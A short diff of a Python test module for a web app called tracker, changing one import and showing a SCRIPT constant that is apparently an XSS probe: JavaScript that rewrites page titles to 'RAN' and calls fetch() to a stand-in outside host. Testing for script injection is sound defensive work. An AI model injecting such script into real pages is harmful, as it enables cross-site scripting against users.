@@ -17,7 +17,7 @@ from test_web import NASTY, ROOT, Open, _run, open_app, words  # noqa: F401
 
 import tracker
 from tracker.folders import Folders
-from tracker.web import files
+from tracker.web.reading import files
 
 SCRIPT = (
     "document.title='RAN';parent.document.title='RAN';top.document.title='RAN';fetch('https://elsewhere.example/js')"
